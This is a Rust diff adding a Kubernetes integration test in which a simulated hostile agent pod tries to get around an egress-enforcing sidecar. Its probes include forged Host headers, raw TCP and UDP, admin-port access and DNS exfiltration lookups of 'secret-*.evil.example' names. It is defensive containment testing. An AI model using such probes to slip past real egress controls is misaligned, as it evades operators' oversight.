@@ -438,3 +438,347 @@ async fn run(cluster: &Cluster, agents: &TestNamespace, native: bool) -> Result<
     );
     Ok(())
 }
+
+/// The red team on the real node (issue 15): a hostile agent, UID 1000, in
+/// an injected pod with native sidecars, tries each way around transparent
+/// egress with `mandate-testbin probe` (run with `kubectl exec`, direct
+/// connections, no proxy variable read). An upstream in another namespace
+/// (not enforced) logs every arrival: HTTP, TCP echo on 9000 and 9002, UDP
+/// on 9001, and DNS (the agent pod's nameserver, so the sidecar forwards
+/// allowed names to it). A decoy pod is the other address of a forged Host.
+#[tokio::test]
+#[cfg_attr(
+    not(feature = "cluster-tests"),
+    ignore = "needs the test cluster: hack/cluster.sh up --node, or make test"
+)]
+async fn a_hostile_agent_on_the_node_cannot_get_around_transparent_egress() -> Result<()> {
+    let _alone = ONE_OPERATOR.lock().await;
+    let t0 = tokio::time::Instant::now();
+    let cluster = Cluster::connect().await?;
+    cluster.require_node()?;
+    cluster.install_crds().await?;
+    cluster
+        .load_image(TESTBIN, &workspace_binary("mandate-testbin")?)
+        .await?;
+    cluster
+        .load_sidecar_image(SIDECAR, &workspace_binary("mandate-sidecar")?)
+        .await?;
+    let op = cluster.namespace("rt-op").await?;
+    let agents = cluster.namespace("rt").await?;
+    let outside = cluster.namespace("rt-up").await?;
+    let node_ip = cluster
+        .info()
+        .apiserver
+        .trim_start_matches("https://")
+        .split(':')
+        .next()
+        .context("no apiserver host")?
+        .to_string();
+    let port = free_port_on(&node_ip)?;
+    let policy_port = free_port_on(&node_ip)?;
+    let mut args: Vec<String> = [
+        "--sidecar-image",
+        SIDECAR,
+        "--identity-addr",
+        &format!("{node_ip}:{port}"),
+        "--identity-san",
+        &node_ip,
+        "--svid-server-url",
+        &format!("https://{node_ip}:{port}"),
+        "--policy-addr",
+        &format!("{node_ip}:{policy_port}"),
+        "--policy-server-url",
+        &format!("https://{node_ip}:{policy_port}"),
+        "--native-sidecars",
+        "auto",
+    ]
+    .map(String::from)
+    .into();
+    // MANDATE_TEST_TRANSPARENT_EGRESS=false: the same attempts without the
+    // rules, to see the checks fail (they must).
+    if std::env::var("MANDATE_TEST_TRANSPARENT_EGRESS").as_deref() == Ok("false") {
+        let file = std::env::temp_dir().join(format!("mandate-rt-inject-{}.yaml", agents.name()));
+        std::fs::write(&file, "transparentEgress: false\n")?;
+        args.extend(["--inject-config".into(), file.to_string_lossy().into_owned()]);
+    }
+    let hooks = Webhooks::start_with(&cluster, &op, &agents, args).await?;
+    let result = red_team(&cluster, &agents, &outside).await;
+    if result.is_err() {
+        eprintln!("operator log:\n{}", hooks.logs());
+        eprintln!("{}", agents.dump().await);
+        eprintln!("{}", outside.dump().await);
+    }
+    drop(hooks);
+    result?;
+    eprintln!("red team on the node: {:?}", t0.elapsed());
+    op.delete().await?;
+    outside.delete().await?;
+    agents.delete().await
+}
+
+/// `mandate-testbin probe ARGS` in the agent container (as its UID): the
+/// JSON line it printed and its exit code.
+async fn probe(cluster: &Cluster, ns: &str, args: &[&str]) -> Result<(Value, i32)> {
+    let mut all = vec![
+        "-n",
+        ns,
+        "exec",
+        "agent",
+        "-c",
+        "agent",
+        "--",
+        "/usr/local/bin/mandate-testbin",
+        "probe",
+        "--timeout",
+        "3",
+    ];
+    all.extend_from_slice(args);
+    let out = cluster.kubectl_output(&all, "").await?;
+    let line = out
+        .stdout
+        .lines()
+        .rev()
+        .find(|l| l.starts_with('{'))
+        .with_context(|| format!("probe {args:?} printed no result: {} {}", out.stdout, out.stderr))?;
+    let code = if out.success {
+        0
+    } else {
+        out.stderr
+            .split("exit code ")
+            .nth(1)
+            .and_then(|c| c.trim().parse().ok())
+            .unwrap_or(-1)
+    };
+    Ok((serde_json::from_str(line)?, code))
+}
+
+async fn red_team(cluster: &Cluster, agents: &TestNamespace, outside: &TestNamespace) -> Result<()> {
+    for (name, args) in [
+        (
+            "upstream",
+            json!([
+                "serve",
+                "--tcp-echo",
+                "9000",
+                "--tcp-echo",
+                "9002",
+                "--udp",
+                "9001",
+                "--dns",
+                "53"
+            ]),
+        ),
+        ("decoy", json!(["serve"])),
+    ] {
+        outside
+            .create::<Pod>(&serde_json::from_value(json!({
+                "metadata": {"name": name},
+                "spec": {"containers": [{
+                    "name": "serve", "image": TESTBIN, "imagePullPolicy": "Never",
+                    "command": ["/usr/local/bin/mandate-testbin"], "args": args,
+                    "env": [
+                        {"name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
+                        {"name": "DNS_ANSWER", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
+                    ],
+                    "readinessProbe": {"tcpSocket": {"port": 8080}, "periodSeconds": 1},
+                }]},
+            }))?)
+            .await?;
+    }
+    let ip_of = |p: Pod| p.status.and_then(|s| s.pod_ip).context("no pod IP");
+    let up = ip_of(outside.wait_pod_ready("upstream", secs(90)).await?)?;
+    let decoy = ip_of(outside.wait_pod_ready("decoy", secs(90)).await?)?;
+
+    let policy = format!(
+        r#"apiVersion: mandate.dev/v1alpha1
+kind: AgentPolicy
+metadata: {{name: red-team}}
+spec:
+  identities: [red-team]
+  egress:
+  - {{host: allowed.example, port: 8080}}
+  modules:
+  - name: authz.rego
+    rego: |
+      package mandate.authz
+      import rego.v1
+      default decision := {{"allow": false, "reason": "red team: not allowed"}}
+      decision := true if {{
+        input.attributes.request.http.method == "GET"
+        input.parsed_host.name == "{up}"
+        input.parsed_host.port == 8080
+        startswith(input.parsed_path[0], "allowed")
+      }}
+      decision := true if {{
+        input.attributes.request.http.method == "CONNECT"
+        input.egress.path == "raw"
+        input.parsed_host.name == "{up}"
+        input.parsed_host.port == 9000
+      }}
+"#
+    );
+    agents.apply(&policy).await?;
+    agents
+        .apply(&agent_identity("red-team").match_label("agent", "red-team").manifest())
+        .await?;
+    let agent_pod: Pod = serde_json::from_value(json!({
+        "metadata": {"name": "agent", "labels": {"agent": "red-team"}},
+        "spec": {
+            "securityContext": {"runAsUser": 1000, "runAsNonRoot": true},
+            // The upstream is the pod's nameserver: the sidecar forwards
+            // the names policy allows there, and only those.
+            "dnsPolicy": "None",
+            "dnsConfig": {"nameservers": [up.clone()]},
+            "containers": [{
+                "name": "agent", "image": TESTBIN, "imagePullPolicy": "Never",
+                "command": ["/usr/local/bin/mandate-testbin"], "args": ["agent"],
+                "readinessProbe": {"tcpSocket": {"port": 8080}, "periodSeconds": 1},
+            }],
+        },
+    }))?;
+    let api = agents.api::<Pod>();
+    wait_for("the agent pod to be created injected", secs(20))
+        .every(EVERY)
+        .until_some(async || {
+            let created = api.create(&Default::default(), &agent_pod).await?;
+            let spec = created.spec.as_ref().unwrap();
+            if spec.containers.len() + spec.init_containers.as_ref().map_or(0, Vec::len) >= 3 {
+                return Ok(Some(()));
+            }
+            api.delete("agent", &kube::api::DeleteParams::default().grace_period(0))
+                .await?;
+            wait_for("the uninjected pod to go", secs(30))
+                .every(EVERY)
+                .until_some(async || Ok(api.get_opt("agent").await?.is_none().then_some(())))
+                .await?;
+            Ok(None)
+        })
+        .await?;
+    let running = agents.wait_pod_ready("agent", secs(120)).await?;
+    let pod_ip = ip_of(running)?;
+    // The policy is in force before anything is tried.
+    let policies = agents.api::<mandate_api::crd::AgentPolicy>();
+    wait_for("red-team to be 1/1 in force", secs(30))
+        .every(EVERY)
+        .until_some(async || {
+            let p = policies.get_status("red-team").await?;
+            Ok((p.status.and_then(|s| s.in_force).as_deref() == Some("1/1")).then_some(()))
+        })
+        .await?;
+
+    let ns = agents.name().to_string();
+    let mut failures: Vec<String> = vec![];
+    let mut seen: Vec<String> = vec![];
+    // What the answers held, beside their outcomes.
+    let mut answers: Vec<String> = vec![];
+    let mut expect = async |args: &[&str], want: &[&str], code: i32| -> Result<Value> {
+        let (r, c) = probe(cluster, &ns, args).await?;
+        let outcome = r["outcome"].as_str().unwrap_or_default().to_string();
+        seen.push(format!("{args:?} -> {outcome} (exit {c})"));
+        if !want.contains(&outcome.as_str()) || c != code {
+            failures.push(format!("{args:?}: wanted {want:?} (exit {code}), got {r} (exit {c})"));
+        }
+        Ok(r)
+    };
+    let (up8080, up9000, up9002, up9001) = (
+        format!("{up}:8080"),
+        format!("{up}:9000"),
+        format!("{up}:9002"),
+        format!("{up}:9001"),
+    );
+    // Allowed, ignoring the proxy: arrives.
+    let ok = expect(&["http", &format!("http://{up8080}/allowed-rt")], &["connected"], 0).await?;
+    if ok["status"] != 200 {
+        answers.push(format!("the allowed request: {ok}"));
+    }
+    // A path no policy allows, and a forged Host sent to another address.
+    expect(&["http", &format!("http://{up8080}/denied-rt")], &["denied"], 10).await?;
+    expect(
+        &[
+            "http",
+            &format!("http://{decoy}:8080/allowed-forged"),
+            "--host",
+            &up8080,
+        ],
+        &["denied"],
+        10,
+    )
+    .await?;
+    // Raw TCP: the allowed port echoes, another is closed undecided.
+    expect(&["tcp", &up9000], &["connected"], 0).await?;
+    expect(&["tcp", &up9002], &["closed", "refused"], 10).await?;
+    // UDP anywhere: refused by the kernel.
+    expect(&["udp", &up9001], &["refused"], 10).await?;
+    // DNS, whatever server is asked: the allowed name is forwarded (to the
+    // pod's nameserver, the upstream) and answered; others are NXDOMAIN.
+    let dns = expect(&["dns", "allowed.example", &up], &["connected"], 0).await?;
+    if dns["answers"] != json!([up.clone()]) {
+        answers.push(format!("allowed.example: {dns}"));
+    }
+    expect(&["dns", "secret-udp.evil.example", &up], &["nxdomain"], 10).await?;
+    expect(&["dns", "secret-tcp.evil.example", &up, "--tcp"], &["nxdomain"], 10).await?;
+    // A server that is not one: the query is still answered, by the sidecar.
+    expect(&["dns", "secret-other.evil.example", &decoy], &["nxdomain"], 10).await?;
+    let txt = expect(&["dns", "allowed.example", &up, "--type", "TXT"], &["connected"], 0).await?;
+    if txt["answers"] != json!([]) {
+        answers.push(format!("TXT of an allowed name: {txt}"));
+    }
+    // Mandate's ports: Envoy's admin (a Unix socket here, so nothing would
+    // listen on 15000 anyway), the sidecar's admin and Envoy's readiness.
+    for target in [
+        "127.0.0.1:15000".to_string(),
+        "127.0.0.1:15020".into(),
+        "127.0.0.1:15021".into(),
+        format!("{pod_ip}:15020"),
+        format!("{pod_ip}:15021"),
+    ] {
+        expect(&["tcp", &target], &["refused"], 10).await?;
+    }
+    failures.extend(answers);
+    eprintln!("probes:\n  {}", seen.join("\n  "));
+
+    // What arrived: the allowed, and nothing denied.
+    let up_log = outside.logs("upstream", "serve").await?;
+    let decoy_log = outside.logs("decoy", "serve").await?;
+    for want in ["GET /allowed-rt", "tcp 9000 from", "dns allowed.example. A"] {
+        if !up_log.contains(want) {
+            failures.push(format!("'{want}' never reached the upstream"));
+        }
+    }
+    for never in ["denied-rt", "allowed-forged", "tcp 9002", "udp 9001", "evil", "TXT"] {
+        if up_log.contains(never) || decoy_log.contains(never) {
+            failures.push(format!("'{never}' reached the outside"));
+        }
+    }
+    // Each denial with its reason in the sidecar's log.
+    let log = agents.logs("agent", "mandate-sidecar").await?;
+    let denied = |needle: &str, reason: &str| {
+        log.lines()
+            .any(|l| l.contains(needle) && l.contains(r#""result":"deny""#) && l.contains(reason))
+    };
+    for (needle, reason) in [
+        ("/denied-rt", "red team: not allowed"),
+        ("allowed-forged", "original destination and Host disagree"),
+        (up9002.as_str(), "red team: not allowed"),
+    ] {
+        if !denied(needle, reason) {
+            failures.push(format!("no deny for {needle} ({reason}) in the decision log"));
+        }
+    }
+    for name in [
+        "secret-udp.evil.example",
+        "secret-tcp.evil.example",
+        "secret-other.evil.example",
+    ] {
+        if !log.lines().any(|l| l.contains("DNS query refused") && l.contains(name)) {
+            failures.push(format!("no refusal of {name} in the sidecar's log"));
+        }
+    }
+    ensure!(
+        failures.is_empty(),
+        "{} checks failed:\n{}\nupstream:\n{up_log}\ndecoy:\n{decoy_log}\nsidecar:\n{log}",
+        failures.len(),
+        failures.join("\n")
+    );
+    Ok(())
+}
